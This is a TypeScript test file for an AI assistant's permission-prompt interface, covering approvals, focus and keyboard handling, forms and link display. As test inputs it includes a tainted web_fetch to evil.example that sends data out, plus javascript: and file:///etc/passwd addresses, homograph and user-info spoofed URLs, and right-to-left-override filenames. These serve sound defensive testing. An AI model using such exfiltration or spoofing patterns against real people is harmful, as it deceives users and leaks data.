import '@/testkit/browser'
import { act as settle } from 'react'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { useStore } from '@/store'
import { button, clear, draw, press } from '@/testkit/draw'
import { requests, routes, json, refusal, serve, summary } from '@/testkit/server'
import { freshStores } from '@/testkit/stores'
import { tool, waiting } from '@/testkit/tools'
import { countdownText } from './Countdown'
import { Questions } from './Questions'
import { WaitingElsewhere } from './WaitingElsewhere'

const CHAT = '0000000000abc'
let count = 0
let id = (name: string) => name

beforeEach(() => {
  count += 1
  id = (name) => `${name}${count}`
  serve()
  const tools = [tool('write_file', { changes: true }), tool('web_fetch', { sendsOut: true })]
  freshStores({ route: { page: 'chat', id: CHAT }, tools })
})

afterEach(async () => {
  await clear()
  vi.useRealTimers()
  vi.unstubAllGlobals()
})

const ask = (name: string, more: Parameters<typeof waiting>[2] = {}, chat = CHAT) => settle(async () => useStore.getState().questionAsked(waiting(id(name), chat, more)))
const answers = () => requests.filter(({ route }) => route.includes('/confirm/')).map(({ route, body }) => [route.slice(route.lastIndexOf('/') + 1), body['approved']])
const card = () => document.getElementById('question-card')
const type = (key: string, target: Element | null = card()) => settle(async () => target?.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true })))

describe('a question', () => {
  test('says what, on what, why, and what can go wrong, and is read out', async () => {
    await draw(<Questions chat={CHAT} />)
    await ask('q')
    const text = card()?.textContent
    for (const part of ['May Luna write the file “a.md”?', 'Writes a file.', 'path', 'It acts outside.', 'It makes a change']) expect(text).toContain(part)
    expect(document.querySelector('[role=alert]')?.textContent).toMatch(/^May Luna write the file “a.md”\?/)
    expect(document.querySelector('[role=timer]')?.textContent).toMatch(/^[12]:\d\d$/)
  })

  test('shows a list as a list, and every other line as it is', async () => {
    await draw(<Questions chat={CHAT} />)
    const description = 'Makes the server dice: Rolls dice.\n- dice__roll(sides: integer)\nIts test worked:\n- roll(sides: 6) → `4`\n-no list\n- \nThe sandbox is whole.'
    await ask('q', { tool: 'mcp_server_create', args: { name: 'dice', code: '' }, description })
    const told = card()?.querySelector('[role=group] > div')
    expect([...(told?.children ?? [])].map((part) => [part.tagName, part.textContent])).toEqual([
      ['UL', 'dice__roll(sides: integer)'],
      ['P', 'Its test worked:'],
      ['UL', 'roll(sides: 6) → 4'],
      ['P', '-no list\n- \nThe sandbox is whole.'],
    ])
    expect(told?.querySelector('li code')?.textContent).toBe('4')
  })

  test('has the focus, so that one letter answers it, and Escape does not', async () => {
    vi.useFakeTimers({ toFake: ['performance'] })
    routes[`POST /api/chat/confirm/${id('q')}`] = () => json({ settled: true })
    await draw(<Questions chat={CHAT} />)
    await ask('q')
    expect(document.activeElement).toBe(card())
    await type('Escape')
    // A key pressed right away was meant for the composer and does not answer.
    await type('y')
    expect(answers()).toEqual([])
    vi.advanceTimersByTime(1000)
    await type('y')
    expect(answers()).toEqual([[id('q'), true]])
    expect(card()).toBeNull()
  })

  test('is denied by a letter, too', async () => {
    routes[`POST /api/chat/confirm/${id('q')}`] = () => json({ settled: true })
    await draw(<Questions chat={CHAT} />)
    await ask('q')
    await type('N')
    expect(answers()).toEqual([[id('q'), false]])
  })

  test.each([['in the middle of a thought', 'Half a thou'], ['about to begin', '']])('does not take the focus from somebody who writes, nor their letters: %s', async (_, text) => {
    await draw(
      <>
        <textarea defaultValue={text} />
        <Questions chat={CHAT} />
      </>,
    )
    const field = document.querySelector('textarea')
    field?.focus()
    await ask('q')
    expect(document.activeElement).toBe(field)
    await type('y', field)
    expect(answers()).toEqual([])
  })

  test('that others may have brought about warns, names them, and has its no in focus', async () => {
    await draw(<Questions chat={CHAT} />)
    await ask('q', { tool: 'web_fetch', args: { url: 'https://evil.example/?x' }, tainted: true, why: 'It sends something out, and the conversation holds outside text (https://blog.example/).' })
    expect(document.activeElement).toBe(button('Don’t allow') ?? [...document.querySelectorAll('button')].find((found) => found.textContent?.startsWith('Don’t allow')))
    expect(card()?.textContent).toContain('https://blog.example/')
    expect(card()?.textContent).toContain('Somebody else may be using her')
    expect(card()?.textContent).not.toContain('Always')
    expect(document.querySelector('[role=alert]')?.textContent).toContain('https://blog.example/')
  })

  test('that is asked about each time offers no yes for good', async () => {
    await draw(<Questions chat={CHAT} />)
    await ask('q', { tool: 'forget', everyTime: true })
    expect(card()?.textContent).not.toContain('Always')
    expect(card()?.textContent).not.toContain('This may not be her own idea')
  })

  test('can be allowed for good where nobody else has spoken', async () => {
    await draw(<Questions chat={CHAT} />)
    await ask('q')
    expect(button('Always', card() as HTMLElement)).toBeDefined()
  })

  test('waits behind the first, and can be opened before it', async () => {
    await draw(<Questions chat={CHAT} />)
    await ask('q')
    await ask('r', { args: { path: 'b.md' } })
    await ask('elsewhere', {}, '0000000000xyz')
    expect(document.querySelectorAll('#question-card')).toHaveLength(1)
    expect(card()?.querySelector('h2')?.textContent).toContain('a.md')
    const other = document.querySelector<HTMLButtonElement>('[aria-label="Other questions that wait"] button')
    expect(other?.textContent).toContain('Wants to write the file b.md')
    await settle(async () => other?.click())
    expect(card()?.querySelector('h2')?.textContent).toContain('b.md')
    await settle(async () => useStore.getState().questionSettled(id('r')))
    expect(card()?.querySelector('h2')?.textContent).toContain('a.md')
    await settle(async () => useStore.getState().questionSettled(id('q')))
    expect(card()).toBeNull()
  })

  test('says why the answer did not get through', async () => {
    routes[`POST /api/chat/confirm/${id('q')}`] = () => refusal(500, 'internal', 'the disk is full')
    await draw(<Questions chat={CHAT} />)
    await ask('q')
    await type('n')
    expect(card()?.querySelector('[role=alert]')?.textContent).toMatch(/The disk is full\. Your answer did not get through/)
    // The focus has not moved, so the same key answers again.
    expect(card()?.contains(document.activeElement)).toBe(true)
    await type('n', document.activeElement)
    expect(answers()).toHaveLength(2)
  })

  test('writes out signs that could deceive', async () => {
    await draw(<Questions chat={CHAT} />)
    await ask('q', { args: { path: 'photo\u202egnp.exe' }, why: 'a\u200bb' })
    expect(card()?.querySelector('dd')?.textContent).toBe('photo⟨U+202E⟩gnp.exe')
    expect(card()?.textContent).toContain('a⟨U+200B⟩b')
    expect(card()?.textContent).not.toContain('\u202e')
  })
})

test('a question that cannot be drawn can still be denied, and what is around it stands', async () => {
  vi.spyOn(console, 'error').mockImplementation(() => {})
  routes[`POST /api/chat/confirm/${id('q')}`] = () => json({ settled: true })
  const args = Object.defineProperty({}, 'path', { enumerable: true, get: () => { throw new Error('no') } })
  const host = await draw(
    <>
      <p>The composer</p>
      <Questions chat={CHAT} />
    </>,
  )
  await ask('q', { args })
  expect(host.textContent).toMatch(/The composer.*cannot be shown here/)
  expect(button('Allow')).toBeUndefined()
  await press('Don’t allow')
  expect(answers()).toEqual([[id('q'), false]])
  await ask('r')
  expect(card()?.textContent).toContain('May Luna write the file')
})

describe('a question with a form', () => {
  const form = { type: 'object', properties: { colour: { type: 'string', title: 'Colour' } }, required: ['colour'] }
  const write = (value: string) =>
    settle(async () => {
      const field = document.querySelector<HTMLInputElement>('#question-card input')
      Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set?.call(field, value)
      field?.dispatchEvent(new Event('input', { bubbles: true }))
    })

  test('is sent with what was filled in, and not before that fits', async () => {
    routes[`POST /api/chat/confirm/${id('q')}`] = () => json({ settled: true })
    await draw(<Questions chat={CHAT} />)
    await ask('q', { tool: 'notes__ask', description: 'Which colour?\nOf the wall.', form, args: {}, tainted: true })
    for (const part of ['The server notes asks you', 'Which colour?', 'Of the wall.', 'goes to the server, not to Luna']) expect(card()?.textContent).toContain(part)
    await press('SendY')
    expect(card()?.textContent).toContain('This is needed.')
    expect(answers()).toEqual([])
    await write('navy')
    // A letter typed into a field is not an answer.
    await type('n', document.querySelector('#question-card input'))
    expect(answers()).toEqual([])
    await press('SendY')
    expect(requests.at(-1)?.body).toEqual({ approved: true, filled: { colour: 'navy' } })
  })

  test.each(['mcp_server_create', 'mcp_server_edit'])('about a server waits until its hosts are some: %s', async (name) => {
    routes[`POST /api/chat/confirm/${id('q')}`] = () => json({ settled: true })
    await draw(<Questions chat={CHAT} />)
    const hosts = { type: 'object', properties: { hosts: { type: 'string', title: 'Hosts that it may reach', default: 'a.example' } } }
    await ask('q', { tool: name, form: hosts, args: { name: 'net', code: 'x = 1', hosts: 'a.example' }, everyTime: true })
    await write('a.example, http://bad/')
    await press('AllowY')
    expect(card()?.querySelector('[role=alert]')?.textContent).toMatch(/^http:\/\/bad\/ is not a host: write example\.org/)
    expect(answers()).toEqual([])
    await write('')
    await press('AllowY')
    expect(requests.at(-1)?.body).toEqual({ approved: true, filled: { hosts: '' } })
  })

  test('of a tool of others may have a field of that name for anything', async () => {
    routes[`POST /api/chat/confirm/${id('q')}`] = () => json({ settled: true })
    await draw(<Questions chat={CHAT} />)
    await ask('q', { tool: 'party__ask', form: { type: 'object', properties: { hosts: { type: 'string' } } }, args: {}, tainted: true })
    await write('Ada & Grace')
    await press('SendY')
    expect(requests.at(-1)?.body).toEqual({ approved: true, filled: { hosts: 'Ada & Grace' } })
  })

  test('fades where it is cut off, above as below', async () => {
    await draw(<Questions chat={CHAT} />)
    await ask('q', { tool: 'notes__ask', form, args: {}, tainted: true })
    expect(card()?.querySelector('[role=group]')?.className).toMatch(/mask-\[linear-gradient\(transparent,.*,transparent\)\]/)
  })

  test('can be refused with nothing in it', async () => {
    routes[`POST /api/chat/confirm/${id('q')}`] = () => json({ settled: true })
    await draw(<Questions chat={CHAT} />)
    await ask('q', { tool: 'notes__ask', form, args: {}, tainted: true })
    await press('Don’t answerN')
    expect(requests.at(-1)?.body).toEqual({ approved: false })
  })
})

describe('a page that a server wants to be opened', () => {
  const there = (address: string) => ({ tool: 'notes__pay', description: `Pay there.\n\nIt wants you to open ${address} and come back here.`, args: {}, tainted: true, everyTime: true })

  test.each([
    ['https://pay.example/x?id=1', 'pay.example', 'https://pay.example/x?id=1'],
    ['http://bank.example@evil.example:8080/', 'evil.example:8080', 'http://bank.example@evil.example:8080/'],
    ['https://b\u0430nk.example/', 'xn--bnk-6cd.example', 'https://xn--bnk-6cd.example/'],
    ['https://evil.example/\u202egpj.exe', 'evil.example', 'https://evil.example/%E2%80%AEgpj.exe'],
  ])('is a link, and whose it is stands beside it: %s', async (address, host, href) => {
    await draw(<Questions chat={CHAT} />)
    await settle(async () => useStore.getState().questionAsked(waiting(`${id('q')}.1`, CHAT, there(address))))
    const link = card()?.querySelector('a')
    expect([link?.href, link?.textContent, link?.target, link?.rel]).toEqual([href, href, '_blank', 'noopener noreferrer'])
    expect(card()?.querySelector('strong')?.textContent).toBe(host)
    expect(card()?.textContent).not.toMatch(/What you write|It wants you to open/)
  })

  test.each(['javascript:alert(1)', 'file:///etc/passwd', 'data:text/html,x', 'pay.example', 'https://'])('is no link where it is none: %s', async (address) => {
    await draw(<Questions chat={CHAT} />)
    await settle(async () => useStore.getState().questionAsked(waiting(`${id('q')}.1`, CHAT, there(address))))
    expect(card()?.querySelector('a')).toBeNull()
    expect(card()?.textContent).toContain(address)
  })

  test.each([['I have done itY', true], ['Not nowN', false]])('is answered by what was done: %s', async (name, approved) => {
    routes[`POST /api/chat/confirm/${id('q')}.1`] = () => json({ settled: true })
    await draw(<Questions chat={CHAT} />)
    await settle(async () => useStore.getState().questionAsked(waiting(`${id('q')}.1`, CHAT, there('https://pay.example/'))))
    expect(document.querySelector('[role=alert]')?.textContent).toContain('Y says that you have done it')
    await press(name)
    expect(requests.at(-1)?.body).toEqual({ approved })
  })
})

test('that a server wants to use the model is said once, with what the model would be given', async () => {
  await draw(<Questions chat={CHAT} />)
  const description = 'The server notes wants to use your model, for this:\n\nSay one word.'
  await settle(async () => useStore.getState().questionAsked(waiting(`${id('q')}.1`, CHAT, { tool: 'notes__think', description, args: {}, tainted: true })))
  expect(card()?.textContent?.match(/wants to use your model/g)).toHaveLength(1)
  expect(card()?.textContent).toContain('What your model would be givenSay one word.')
})

test.each(['mcp_server_create', 'mcp_server_edit'])('the source of a server is read as code before a yes, which counts once: %s', async (name) => {
  const code = Array.from({ length: 30 }, (_, line) => `line_${line + 1} = 0`).join('\n')
  await draw(<Questions chat={CHAT} />)
  await ask('q', { tool: name, args: { name: 'dice', description: 'Rolls.', code, tests: [] }, everyTime: true })
  expect(card()?.textContent).toContain('“dice”?')
  expect(card()?.querySelector('pre')?.textContent).toMatch(/line_12 = 0$/)
  await press('Show all 30 lines')
  expect(card()?.querySelector('pre')?.textContent).toMatch(/line_30 = 0$/)
  expect(button('Always')).toBeUndefined()
  await settle(async () => useStore.getState().questionSettled(id('q')))
})

test('of a server that is there already, what would change is shown, and all of it on demand', async () => {
  routes['GET /api/mcp/servers/dice/source'] = () => json({ code: 'sides = 6\nrolls = 1\n' })
  await draw(<Questions chat={CHAT} />)
  await ask('q', { tool: 'mcp_server_edit', args: { name: 'dice', description: 'Rolls.', code: 'sides = 20\nrolls = 1\n' }, everyTime: true })
  const changed = () => card()?.querySelector('[aria-label="What changed"]')?.textContent
  expect(changed()).toContain('removed: sides = 6')
  expect(changed()).toContain('added: sides = 20')
  await press('Show the whole code')
  expect(changed()).toBeUndefined()
  expect(card()?.querySelector('pre')?.textContent).toBe('sides = 20\nrolls = 1')
  await settle(async () => useStore.getState().questionSettled(id('q')))
})

test('a question in another conversation is told of, with the way there', async () => {
  useStore.setState({ chats: [summary('0000000000xyz', { title: 'Tides' })] })
  await draw(<WaitingElsewhere />)
  await ask('q')
  expect(document.querySelector('[role=status]')?.textContent).toBe('')
  await ask('r', {}, '0000000000xyz')
  await ask('s', {}, '0000000000xyz')
  expect(document.querySelector('[role=status]')?.textContent).toMatch(/^Luna waits for your answer in Tides/)
  expect(document.querySelector('a')?.getAttribute('href')).toBe('#/c/0000000000xyz')
  await settle(async () => useStore.getState().go({ page: 'settings' }))
  expect(document.querySelectorAll('a')).toHaveLength(2)
  await settle(async () => {
    for (const name of ['q', 'r', 's']) useStore.getState().questionSettled(id(name))
  })
  expect(document.querySelector('a')).toBeNull()
})

test.each([
  [300, '5:00'],
  [299.2, '5:00'],
  [61, '1:01'],
  [0.5, '0:01'],
  [0, null],
  [-3, null],
])('%s seconds are shown as %s', (seconds, shown) => expect(countdownText(new Date(seconds * 1000).toISOString(), 0)).toBe(shown))

test('a time that is none is not shown', () => expect(countdownText('soon', 0)).toBeNull())

test('the last answer gives the focus back to the composer', async () => {
  routes[`POST /api/chat/confirm/${id('q')}`] = () => json({ settled: true })
  await draw(<Questions chat={CHAT} />)
  await ask('q')
  const before = useStore.getState().composerFocus
  await press(button('Don’t allow') ? 'Don’t allow' : 'Don’t allowN')
  expect(useStore.getState().composerFocus).toBe(before + 1)
})
